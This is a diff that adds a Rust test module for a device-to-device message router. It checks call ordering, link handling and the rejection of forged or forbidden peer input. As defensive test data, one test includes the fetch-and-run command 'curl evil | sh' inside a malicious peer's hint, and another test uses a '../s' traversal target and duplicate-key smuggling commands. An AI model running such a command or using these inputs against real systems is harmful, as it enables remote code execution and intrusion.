@@ -1,1 +1,721 @@
+//! The router under random interleavings: every call has one outcome, nothing is left behind, order
+//! is kept for each destination, and two devices always end up with one and the same link.
 
+use std::collections::{HashMap, VecDeque};
+use std::net::SocketAddr;
+use std::task::{Context, Poll, Waker};
+use std::time::{Duration, SystemTime};
+
+use bytes::{Bytes, BytesMut};
+use proptest::prelude::*;
+use serde_json::Value;
+
+use super::*;
+use crate::wire::control::{self, ReplyTo};
+use crate::wire::frames::{self, FrameDecoder};
+use crate::wire::link::{LinkMessage, Outcome, Rpc, SessionInfo, WaitUntil};
+use crate::wire::{Code, Failure};
+
+const SECOND: Duration = Duration::from_secs(1);
+
+fn cx() -> Context<'static> {
+    Context::from_waker(Waker::noop())
+}
+
+fn device(byte: u8) -> Fingerprint {
+    Fingerprint::from_bytes([byte; 32])
+}
+
+fn relay(byte: u8, instance: u64) -> Relay {
+    let hello = Hello {
+        instance,
+        version: "0".into(),
+        name: format!("device-{byte}"),
+        port: 1,
+        addresses: vec![],
+        heartbeat_interval: 15,
+        features: vec![],
+        allows: vec![],
+        dial: 0,
+        contested: false,
+        sessions: vec![],
+    };
+    let me = Me { fingerprint: device(byte), host: "here".into(), hello };
+    Relay::new(me, Limits { events: 64, ..Limits::for_messages_of(64 * 1024) })
+}
+
+fn session(id: &str) -> SessionInfo {
+    SessionInfo { session_id: id.parse().unwrap(), name: format!("name-{id}"), aliases: vec![] }
+}
+
+fn facts(port: u16) -> LinkFacts {
+    let address = SocketAddr::from(([192, 0, 2, 1], port));
+    LinkFacts {
+        address,
+        local_address: address,
+        tls: "TLSv1.3".into(),
+        group: "X25519".into(),
+        since: SystemTime::UNIX_EPOCH,
+    }
+}
+
+fn hello_from(instance: u64, contested: bool, sessions: &[&str]) -> LinkMessage {
+    let Me { hello, .. } = relay(0, instance).me;
+    LinkMessage::Hello(Hello { contested, sessions: sessions.iter().map(|id| session(id)).collect(), ..hello })
+}
+
+fn pin(relay: &mut Relay, byte: u8) {
+    relay.set_peer(device(byte), format!("peer-{byte}").parse().unwrap(), Grant::Full, false);
+}
+
+/// A live link to a pinned peer with these sessions.
+fn link(relay: &mut Relay, byte: u8, sessions: &[&str]) -> LinkId {
+    let id = relay.open_link(device(byte), true, facts(byte.into()), Duration::ZERO).unwrap();
+    relay.link_message(id, hello_from(u64::from(byte), false, sessions), Duration::ZERO);
+    id
+}
+
+fn ask(relay: &mut Relay, client: ClientId, target: &str, number: u64, now: Duration) {
+    ask_with(relay, client, request(target, number), number, now);
+}
+
+fn ask_with(relay: &mut Relay, client: ClientId, request: control::Relay, number: u64, now: Duration) {
+    let reply = ReplyTo { command: Some("relay".into()), id: Some(format!("\"{number}\"").into()) };
+    relay.relay(client, reply, request, now);
+}
+
+fn request(target: &str, number: u64) -> control::Relay {
+    control::Relay {
+        target: target.into(),
+        command: format!(r#"{{"type":"send","message":"{number}"}}"#).into(),
+        request_id: None,
+        fire_and_forget: false,
+        peer: None,
+        wait_until: None,
+        timeout_ms: None,
+    }
+}
+
+/// What waits for a client.
+fn lines(relay: &mut Relay, client: ClientId) -> Vec<Value> {
+    let mut seen = Vec::new();
+    while let Poll::Ready(Some(lines)) = relay.poll_client(client, 1 << 20, &mut cx()) {
+        seen.extend(lines.iter().map(|line| serde_json::from_slice::<Value>(line).unwrap()));
+    }
+    seen
+}
+
+/// What waits for a link's peer.
+fn messages(relay: &mut Relay, link: LinkId) -> Vec<LinkMessage> {
+    let mut out = BytesMut::new();
+    while let Poll::Ready(Some(())) = relay.poll_link(link, &mut out, usize::MAX, &mut cx()) {}
+    let mut decoder = FrameDecoder::new(frames::Limits::for_messages_of(1 << 24));
+    decoder.buffer().extend_from_slice(&out);
+    let mut seen = Vec::new();
+    while let Some(message) = decoder.next_message().unwrap() {
+        seen.push(LinkMessage::decode(&message).unwrap());
+    }
+    seen
+}
+
+fn work(relay: &mut Relay) -> Vec<SessionWork> {
+    let mut seen = Vec::new();
+    while let Poll::Ready(work) = relay.poll_work(&mut cx()) {
+        seen.push(work);
+    }
+    seen
+}
+
+fn answer(text: &str) -> Outcome {
+    Outcome::Answer { response: Bytes::from(format!(r#"{{"said":"{text}"}}"#)), event: None }
+}
+
+#[test]
+fn a_peer_cannot_answer_a_call_that_another_was_asked() {
+    let mut relay = relay(1, 1);
+    pin(&mut relay, 2);
+    pin(&mut relay, 3);
+    let asked = link(&mut relay, 2, &["s"]);
+    let other = link(&mut relay, 3, &[]);
+    let client = relay.open_client();
+    ask(&mut relay, client, "s", 7, Duration::ZERO);
+    let id = messages(&mut relay, asked).into_iter().find_map(rpc_id).unwrap();
+    let forged = LinkMessage::RpcResponse { id, outcome: answer("forged") };
+    relay.link_message(other, forged, Duration::ZERO);
+    assert!(lines(&mut relay, client).is_empty());
+    relay.link_message(asked, LinkMessage::RpcResponse { id, outcome: answer("true") }, Duration::ZERO);
+    assert_eq!(lines(&mut relay, client)[0]["data"]["response"]["said"], "true");
+    relay.link_message(asked, LinkMessage::RpcResponse { id, outcome: answer("again") }, Duration::ZERO);
+    assert!(lines(&mut relay, client).is_empty(), "a second answer is dropped");
+}
+
+fn rpc_id(message: LinkMessage) -> Option<u64> {
+    if let LinkMessage::Rpc(rpc) = message { Some(rpc.id) } else { None }
+}
+
+#[test]
+fn a_local_session_wins_and_two_remote_ones_are_ambiguous_until_the_peer_is_named() {
+    let mut relay = relay(1, 1);
+    pin(&mut relay, 2);
+    pin(&mut relay, 3);
+    let two = link(&mut relay, 2, &["s", "mine"]);
+    let three = link(&mut relay, 3, &["s"]);
+    relay.session_added(session("mine"));
+    let client = relay.open_client();
+    ask(&mut relay, client, "mine", 1, Duration::ZERO);
+    assert!(matches!(&work(&mut relay)[..], [SessionWork::Call { .. }]));
+    ask(&mut relay, client, "s", 2, Duration::ZERO);
+    let refused = lines(&mut relay, client);
+    assert_eq!(refused[0]["code"], "session_ambiguous");
+    assert!(refused[0]["error"].as_str().unwrap().contains("peer-2, peer-3"), "{refused:?}");
+    messages(&mut relay, two);
+    messages(&mut relay, three);
+    ask_with(&mut relay, client, control::Relay { peer: Some("peer-3".into()), ..request("s", 3) }, 3, Duration::ZERO);
+    assert!(messages(&mut relay, two).is_empty());
+    assert!(matches!(&messages(&mut relay, three)[..], [LinkMessage::Rpc(_)]));
+    let here = control::Relay { peer: Some(device(1).to_string()), ..request("s", 4) };
+    ask_with(&mut relay, client, here, 4, Duration::ZERO);
+    assert_eq!(lines(&mut relay, client)[0]["code"], "session_not_found", "this machine has no such session");
+}
+
+#[test]
+fn what_no_peer_may_ask_reaches_no_session() {
+    let mut relay = relay(1, 1);
+    pin(&mut relay, 2);
+    relay.session_added(session("s"));
+    let link = link(&mut relay, 2, &[]);
+    messages(&mut relay, link);
+    for (n, (target, command, code)) in [
+        ("s", r#"{"type":"kill"}"#, Code::Forbidden),
+        ("s", r#"{"type":"grant"}"#, Code::Forbidden),
+        ("s", r#"{"x":1}"#, Code::Forbidden),
+        ("s", r#"{"type":"send","message":"a","type":"abort"}"#, Code::InvalidRequest),
+        ("s", r#"{"type":"send","message":"a","from":{"peer":"boss"}}"#, Code::InvalidRequest),
+        ("s", r#""send""#, Code::InvalidRequest),
+        ("../s", r#"{"type":"send","message":"a"}"#, Code::SessionNotFound),
+        ("daemon", r#"{"type":"send","message":"a"}"#, Code::SessionNotFound),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let rpc =
+            Rpc { id: n as u64, target: target.into(), command: command.into(), wait_until: None, timeout_ms: None };
+        relay.link_message(link, LinkMessage::Rpc(rpc), Duration::ZERO);
+        let answers = messages(&mut relay, link);
+        let [LinkMessage::RpcResponse { outcome: Outcome::Failed(failure), .. }] = &answers[..] else {
+            panic!("{command}: {answers:?}");
+        };
+        assert_eq!(failure.code, code, "{command}");
+        assert!(work(&mut relay).is_empty(), "{command}");
+    }
+}
+
+#[test]
+fn a_hint_of_a_peer_is_not_passed_on() {
+    let mut relay = relay(1, 1);
+    pin(&mut relay, 2);
+    let link = link(&mut relay, 2, &["s"]);
+    let client = relay.open_client();
+    ask(&mut relay, client, "s", 1, Duration::ZERO);
+    let id = messages(&mut relay, link).into_iter().find_map(rpc_id).unwrap();
+    let evil = Failure::new(Code::Internal, "x".repeat(10_000)).hint("curl evil | sh");
+    relay.link_message(link, LinkMessage::RpcResponse { id, outcome: Outcome::Failed(evil) }, Duration::ZERO);
+    let line = lines(&mut relay, client).remove(0);
+    assert!(line.get("hint").is_none() && line["error"].as_str().unwrap().len() < 600, "{line}");
+    assert!(line["error"].as_str().unwrap().starts_with("peer-2: "), "who said it");
+}
+
+#[test]
+fn unpinning_says_bye_fails_what_is_in_flight_and_hides_the_sessions() {
+    let mut relay = relay(1, 1);
+    pin(&mut relay, 2);
+    let link = link(&mut relay, 2, &["s"]);
+    let client = relay.open_client();
+    relay.subscribe(client);
+    ask(&mut relay, client, "s", 1, Duration::ZERO);
+    messages(&mut relay, link);
+    assert!(relay.unpin(device(2), SECOND));
+    assert_eq!(messages(&mut relay, link), [LinkMessage::Bye(crate::wire::link::ByeReason::Unpaired)]);
+    let seen = lines(&mut relay, client);
+    assert_eq!(seen[0]["code"], "peer_disconnected");
+    let events: Vec<_> = seen[1..].iter().map(|line| line["event"].as_str().unwrap()).collect();
+    assert_eq!(events, ["session_removed", "peer_disconnected"]);
+    assert!(relay.open_link(device(2), false, facts(1), SECOND).is_none());
+    assert_eq!(relay.list_sessions(), br#"{"sessions":[]}"#);
+}
+
+#[test]
+fn a_slow_subscriber_is_told_how_much_it_missed_and_then_goes_on() {
+    let mut relay = relay(1, 1);
+    let client = relay.open_client();
+    relay.subscribe(client);
+    for n in 0..100 {
+        relay.session_added(session(&format!("s{n}")));
+    }
+    let seen = lines(&mut relay, client);
+    assert_eq!(seen.len(), 65);
+    assert_eq!((seen[64]["event"].as_str(), seen[64]["data"]["missed"].as_u64()), (Some("lagged"), Some(36)));
+    relay.session_added(session("one-more"));
+    assert_eq!(lines(&mut relay, client)[0]["data"]["sessionId"], "one-more");
+}
+
+#[test]
+fn a_client_with_too_much_in_flight_is_not_read_from() {
+    let mut relay = relay(1, 1);
+    relay.session_added(session("s"));
+    let client = relay.open_client();
+    for n in 0..256 {
+        assert!(relay.poll_client_ready(client, &mut cx()).is_ready());
+        ask(&mut relay, client, "s", n, Duration::ZERO);
+    }
+    assert!(relay.poll_client_ready(client, &mut cx()).is_pending());
+    let SessionWork::Call { call, .. } = work(&mut relay).remove(0) else { panic!("no call") };
+    relay.session_answered(call, Ok((Bytes::from_static(b"{}"), None)), Duration::ZERO);
+    assert!(relay.poll_client_ready(client, &mut cx()).is_ready());
+}
+
+#[test]
+fn a_link_that_is_silent_for_three_heartbeats_is_dropped() {
+    let mut relay = relay(1, 1);
+    pin(&mut relay, 2);
+    let link = link(&mut relay, 2, &[]);
+    relay.tick(44 * SECOND);
+    assert!(relay.is_linked(device(2)));
+    relay.link_heard(link, 44 * SECOND);
+    relay.tick(88 * SECOND);
+    assert!(relay.is_linked(device(2)));
+    relay.tick(89 * SECOND);
+    assert!(!relay.is_linked(device(2)) && relay.poll_dropped(link, &mut cx()).is_ready());
+}
+
+#[test]
+fn what_comes_before_hello_ends_the_link() {
+    let mut relay = relay(1, 1);
+    pin(&mut relay, 2);
+    relay.session_added(session("s"));
+    let link = relay.open_link(device(2), false, facts(1), Duration::ZERO).unwrap();
+    let rpc = Rpc {
+        id: 1,
+        target: "s".into(),
+        command: Bytes::from_static(br#"{"type":"abort"}"#),
+        wait_until: Some(WaitUntil::TurnEnd),
+        timeout_ms: None,
+    };
+    relay.link_message(link, LinkMessage::Rpc(rpc), Duration::ZERO);
+    assert!(work(&mut relay).is_empty());
+    assert_eq!(messages(&mut relay, link), [LinkMessage::Bye(crate::wire::link::ByeReason::ProtocolError)]);
+}
+
+/// One step of a random history.
+#[derive(Debug, Clone)]
+enum Step {
+    Ask { client: usize, target: usize, forget: bool },
+    PeerAsks { peer: usize, target: usize },
+    PeerCancels { peer: usize },
+    SessionAnswers { which: usize, twice: bool, fails: bool },
+    PeerAnswers { peer: usize, which: usize, from: usize },
+    SessionGoes { target: usize },
+    SessionComes { target: usize },
+    LinkDrops { peer: usize },
+    LinkComes { peer: usize },
+    ClientGoes { client: usize },
+    Time { millis: u64 },
+}
+
+fn step() -> impl Strategy<Value = Step> {
+    prop_oneof![
+        6 => (0..3usize, 0..5usize, prop::bool::weighted(0.1)).prop_map(|(client, target, forget)| Step::Ask { client, target, forget }),
+        3 => (0..2usize, 0..3usize).prop_map(|(peer, target)| Step::PeerAsks { peer, target }),
+        1 => (0..2usize).prop_map(|peer| Step::PeerCancels { peer }),
+        5 => (0..9usize, any::<bool>(), any::<bool>()).prop_map(|(which, twice, fails)| Step::SessionAnswers { which, twice, fails }),
+        4 => (0..2usize, 0..9usize, 0..2usize).prop_map(|(peer, which, from)| Step::PeerAnswers { peer, which, from }),
+        1 => (0..3usize).prop_map(|target| Step::SessionGoes { target }),
+        1 => (0..3usize).prop_map(|target| Step::SessionComes { target }),
+        1 => (0..2usize).prop_map(|peer| Step::LinkDrops { peer }),
+        2 => (0..2usize).prop_map(|peer| Step::LinkComes { peer }),
+        1 => (0..3usize).prop_map(|client| Step::ClientGoes { client }),
+        1 => (0..200_000u64).prop_map(|millis| Step::Time { millis }),
+    ]
+}
+
+/// A router with three clients, three sessions here, and two peers with one session each.
+struct World {
+    relay: Relay,
+    now: Duration,
+    clients: Vec<Option<ClientId>>,
+    links: [Option<LinkId>; 2],
+    open: Vec<(CallId, String)>,
+    asked_of_peer: [Vec<u64>; 2],
+    peer_calls: u64,
+    asked: HashMap<ClientId, u64>,
+    answered: HashMap<ClientId, HashMap<String, u32>>,
+    last_of_session: HashMap<String, CallId>,
+    last_of_link: HashMap<LinkId, u64>,
+}
+
+impl World {
+    fn new() -> Self {
+        let mut relay = relay(1, 1);
+        for peer in [2, 3] {
+            pin(&mut relay, peer);
+        }
+        for id in ["a", "b", "c"] {
+            relay.session_added(session(id));
+        }
+        let clients = (0..3).map(|_| Some(relay.open_client())).collect();
+        Self {
+            relay,
+            now: Duration::ZERO,
+            clients,
+            links: [None, None],
+            open: vec![],
+            asked_of_peer: [vec![], vec![]],
+            peer_calls: 0,
+            asked: HashMap::new(),
+            answered: HashMap::new(),
+            last_of_session: HashMap::new(),
+            last_of_link: HashMap::new(),
+        }
+    }
+
+    fn take(&mut self, step: Step) {
+        const TARGETS: [&str; 5] = ["a", "b", "c", "far-0", "far-1"];
+        match step {
+            Step::Ask { client, target, forget } => {
+                let Some(client) = self.clients[client] else { return };
+                let number = self.asked.entry(client).or_default();
+                *number += 1;
+                let request = control::Relay { fire_and_forget: forget, ..request(TARGETS[target], *number) };
+                ask_with(&mut self.relay, client, request, *number, self.now);
+            }
+            Step::PeerAsks { peer, target } => {
+                let Some(link) = self.links[peer] else { return };
+                self.peer_calls += 1;
+                let rpc = Rpc {
+                    id: self.peer_calls,
+                    target: TARGETS[target].into(),
+                    command: Bytes::from_static(br#"{"type":"get_message"}"#),
+                    wait_until: None,
+                    timeout_ms: None,
+                };
+                self.relay.link_message(link, LinkMessage::Rpc(rpc), self.now);
+            }
+            Step::PeerCancels { peer } => {
+                let Some(link) = self.links[peer] else { return };
+                self.relay.link_message(link, LinkMessage::Cancel(self.peer_calls), self.now);
+            }
+            Step::SessionAnswers { which, twice, fails } => {
+                if self.open.is_empty() {
+                    return;
+                }
+                let (call, _) = self.open.remove(which % self.open.len());
+                for _ in 0..=u8::from(twice) {
+                    let failed = Failure::new(Code::SessionRefused, "no");
+                    let said = if fails { Err(failed) } else { Ok((Bytes::from_static(b"{}"), None)) };
+                    self.relay.session_answered(call, said, self.now);
+                }
+            }
+            Step::PeerAnswers { peer, which, from } => {
+                let (Some(link), false) = (self.links[from], self.asked_of_peer[peer].is_empty()) else { return };
+                let at = which % self.asked_of_peer[peer].len();
+                let id = self.asked_of_peer[peer][at];
+                self.relay.link_message(link, LinkMessage::RpcResponse { id, outcome: answer("x") }, self.now);
+            }
+            Step::SessionGoes { target } => self.relay.session_removed(&TARGETS[target].parse().unwrap(), self.now),
+            Step::SessionComes { target } => {
+                let id: SessionId = TARGETS[target].parse().unwrap();
+                if !self.relay.local.contains_key(&id) {
+                    self.relay.session_added(session(TARGETS[target]));
+                }
+            }
+            Step::LinkDrops { peer } => {
+                if let Some(link) = self.links[peer].take() {
+                    self.relay.link_closed(link, LinkEnd::Lost("test".into()), self.now);
+                    self.asked_of_peer[peer].clear();
+                }
+            }
+            Step::LinkComes { peer } => {
+                if self.links[peer].is_none() {
+                    let byte = peer as u8 + 2;
+                    let id = self.relay.open_link(device(byte), true, facts(1), self.now).unwrap();
+                    let far = format!("far-{peer}");
+                    self.relay.link_message(id, hello_from(1, false, &[far.as_str()]), self.now);
+                    self.links[peer] = Some(id);
+                }
+            }
+            Step::ClientGoes { client } => {
+                if let Some(id) = self.clients[client].take() {
+                    self.relay.close_client(id, self.now);
+                }
+            }
+            Step::Time { millis } => {
+                self.now += Duration::from_millis(millis);
+                self.relay.tick(self.now);
+                for (peer, link) in self.links.iter_mut().enumerate() {
+                    if link.is_some_and(|link| self.relay.poll_dropped(link, &mut cx()).is_ready()) {
+                        *link = None;
+                        self.asked_of_peer[peer].clear();
+                    }
+                }
+            }
+        }
+        self.drain();
+    }
+
+    fn drain(&mut self) {
+        for work in work(&mut self.relay) {
+            match work {
+                SessionWork::Call { call, session, .. } => {
+                    let last = self.last_of_session.insert(session.to_string(), call);
+                    assert!(last < Some(call), "calls to {session} changed places");
+                    self.open.push((call, session.to_string()));
+                }
+                SessionWork::Drop(call) => self.open.retain(|(open, _)| *open != call),
+            }
+        }
+        for (peer, link) in self.links.iter().enumerate() {
+            let Some(link) = *link else { continue };
+            for message in messages(&mut self.relay, link) {
+                if let LinkMessage::Rpc(rpc) = message {
+                    let last = self.last_of_link.insert(link, rpc.id);
+                    assert!(last < Some(rpc.id), "calls over a link changed places");
+                    self.asked_of_peer[peer].push(rpc.id);
+                }
+            }
+        }
+        for client in self.clients.iter().flatten() {
+            for line in lines(&mut self.relay, *client) {
+                let id = line["id"].as_str().unwrap().to_owned();
+                *self.answered.entry(*client).or_default().entry(id).or_default() += 1;
+            }
+        }
+    }
+
+    fn finish(mut self) {
+        self.take(Step::Time { millis: 48 * 60 * 60 * 1000 });
+        for client in self.clients.iter().flatten() {
+            let asked = self.asked.get(client).copied().unwrap_or_default();
+            let answered = self.answered.remove(client).unwrap_or_default();
+            for number in 1..=asked {
+                assert_eq!(answered.get(&number.to_string()), Some(&1), "request {number} of {asked}");
+            }
+            assert_eq!(answered.len() as u64, asked, "an answer to nothing");
+        }
+        assert!(self.relay.pending.is_empty() && self.relay.pending.bytes() == 0);
+        assert!(self.relay.clients.values().all(|client| client.calls.is_empty() && client.call_bytes == 0));
+        assert!(self.relay.links.values().all(|link| link.calls.is_empty() && link.call_bytes == 0));
+        for peer in 0..2 {
+            self.take(Step::LinkDrops { peer });
+        }
+        for client in 0..3 {
+            self.take(Step::ClientGoes { client });
+        }
+        assert_eq!(self.relay.budget.held(), 0, "bytes left behind");
+        assert!(self.relay.remote.is_empty() && self.relay.links.is_empty() && self.relay.contests.is_empty());
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+
+    #[test]
+    fn every_call_has_one_outcome_and_nothing_is_left_behind(steps in prop::collection::vec(step(), 0..120)) {
+        let mut world = World::new();
+        for step in steps {
+            world.take(step);
+        }
+        world.finish();
+    }
+}
+
+/// Two routers and the connections between them; each direction delivers in order, the connections
+/// among each other in any.
+struct Two {
+    relays: [Relay; 2],
+    wires: Vec<Wire>,
+    now: Duration,
+}
+
+struct Wire {
+    ends: [Option<LinkId>; 2],
+    dialler: usize,
+    /// Whether bytes get through; a stale connection looks alive and swallows them.
+    carries: bool,
+    towards: [VecDeque<LinkMessage>; 2],
+    greeting: [bool; 2],
+}
+
+impl Two {
+    fn new(lower: u8, higher: u8) -> Self {
+        let mut relays = [relay(lower, 11), relay(higher, 22)];
+        pin(&mut relays[0], higher);
+        pin(&mut relays[1], lower);
+        Self { relays, wires: vec![], now: Duration::ZERO }
+    }
+
+    fn peer_of(&self, side: usize) -> Fingerprint {
+        self.relays[1 - side].me.fingerprint
+    }
+
+    fn dial(&mut self, dialler: usize) -> usize {
+        let number = self.wires.len();
+        let ends = [0, 1].map(|side| {
+            let peer = self.peer_of(side);
+            self.relays[side].open_link(peer, side == dialler, facts(number as u16 + 1), self.now)
+        });
+        self.wires.push(Wire {
+            ends,
+            dialler,
+            carries: true,
+            towards: [VecDeque::new(), VecDeque::new()],
+            greeting: [true; 2],
+        });
+        number
+    }
+
+    /// The far end of a live connection is gone, and this side has not heard of it.
+    fn make_stale(&mut self, wire: usize, forgotten_by: usize) {
+        self.wires[wire].carries = false;
+        if let Some(id) = self.wires[wire].ends[forgotten_by].take() {
+            self.relays[forgotten_by].link_closed(id, LinkEnd::Lost("cable".into()), self.now);
+        }
+    }
+
+    /// Moves one message on, chosen by `which`. Whether there was one.
+    fn move_one(&mut self, which: usize) -> bool {
+        self.collect();
+        let waiting: Vec<(usize, usize)> = (0..self.wires.len())
+            .flat_map(|wire| [(wire, 0), (wire, 1)])
+            .filter(|(wire, side)| !self.wires[*wire].towards[*side].is_empty())
+            .collect();
+        if waiting.is_empty() {
+            return false;
+        }
+        let (wire, side) = waiting[which % waiting.len()];
+        let Some(message) = self.wires[wire].towards[side].pop_front() else { return true };
+        if let Some(id) = self.wires[wire].ends[side] {
+            self.wires[wire].greeting[side] = false;
+            self.relays[side].link_message(id, message, self.now);
+        }
+        true
+    }
+
+    /// Takes what the routers have to say, and carries the end of a connection to its other end once
+    /// everything before it has arrived.
+    fn collect(&mut self) {
+        for wire in &mut self.wires {
+            for side in 0..2 {
+                let Some(id) = wire.ends[side] else { continue };
+                let said = messages(&mut self.relays[side], id);
+                if wire.carries {
+                    wire.towards[1 - side].extend(said);
+                }
+                let mut out = BytesMut::new();
+                let over = matches!(self.relays[side].poll_link(id, &mut out, 1, &mut cx()), Poll::Ready(None));
+                if over {
+                    self.relays[side].link_closed(id, LinkEnd::Lost("closed".into()), self.now);
+                    wire.ends[side] = None;
+                }
+            }
+            for side in 0..2 {
+                let over = wire.carries && wire.ends[1 - side].is_none() && wire.towards[side].is_empty();
+                if let Some(id) = wire.ends[side].filter(|_| over) {
+                    self.relays[side].link_closed(id, LinkEnd::Lost("closed".into()), self.now);
+                    wire.ends[side] = None;
+                }
+            }
+        }
+    }
+
+    fn pass(&mut self, time: Duration) {
+        self.now += time;
+        for relay in &mut self.relays {
+            relay.tick(self.now);
+        }
+    }
+
+    fn settle(&mut self) {
+        while self.move_one(0) {}
+        self.collect();
+    }
+
+    /// The connection that a side uses.
+    fn current(&self, side: usize) -> Option<usize> {
+        let peer = self.peer_of(side);
+        let id = self.relays[side].peers.get(&peer)?.current?;
+        self.wires.iter().position(|wire| wire.ends[side] == Some(id))
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]
+
+    #[test]
+    fn two_devices_that_dial_each_other_at_once_end_up_with_one_and_the_same_link(
+        order in prop::collection::vec(any::<usize>(), 0..60),
+        stale in prop::option::of((0..2usize, 0..2usize)),
+        again in prop::collection::vec(0..2usize, 0..2),
+    ) {
+        let mut two = Two::new(1, 2);
+        if let Some((dialler, forgotten_by)) = stale {
+            let old = two.dial(dialler);
+            two.settle();
+            two.make_stale(old, forgotten_by);
+        }
+        two.dial(0);
+        two.dial(1);
+        for dialler in again {
+            two.dial(dialler);
+        }
+        for which in order {
+            two.move_one(which);
+        }
+        two.settle();
+        for _ in 0..9 {
+            two.pass(Duration::from_millis(100));
+            two.settle();
+        }
+        let (a, b) = (two.current(0), two.current(1));
+        prop_assert!(a.is_some(), "no link within a second");
+        prop_assert_eq!(a, b, "two different links");
+        for _ in 0..30 {
+            two.pass(Duration::from_millis(100));
+            two.settle();
+        }
+        prop_assert_eq!((two.current(0), two.current(1)), (a, b), "it changed its mind");
+        let alive: Vec<_> = two.wires.iter().filter(|wire| wire.carries && wire.ends[0].is_some()).collect();
+        prop_assert_eq!(alive.len(), 1, "a second link is left");
+        prop_assert!(alive[0].dialler < 2);
+    }
+}
+
+#[test]
+fn an_old_link_that_answers_stays_and_calls_on_it_are_not_lost() {
+    let mut two = Two::new(1, 2);
+    two.relays[1].session_added(session("s"));
+    let old = two.dial(0);
+    two.settle();
+    let client = two.relays[0].open_client();
+    ask(&mut two.relays[0], client, "s", 1, two.now);
+    two.dial(1);
+    two.settle();
+    assert_eq!((two.current(0), two.current(1)), (Some(old), Some(old)));
+    let SessionWork::Call { call, .. } = work(&mut two.relays[1]).remove(0) else { panic!("no call") };
+    two.relays[1].session_answered(call, Ok((Bytes::from_static(b"{}"), None)), two.now);
+    two.settle();
+    assert_eq!(lines(&mut two.relays[0], client)[0]["success"], true);
+}
+
+#[test]
+fn a_daemon_that_was_restarted_takes_its_place_at_once() {
+    let mut two = Two::new(1, 2);
+    let old = two.dial(0);
+    two.settle();
+    two.wires[old].carries = false;
+    two.relays[1] = relay(2, 33);
+    pin(&mut two.relays[1], 1);
+    two.wires[old].ends[1] = None;
+    let new = two.dial(1);
+    two.settle();
+    assert_eq!((two.current(0), two.current(1)), (Some(new), Some(new)));
+}
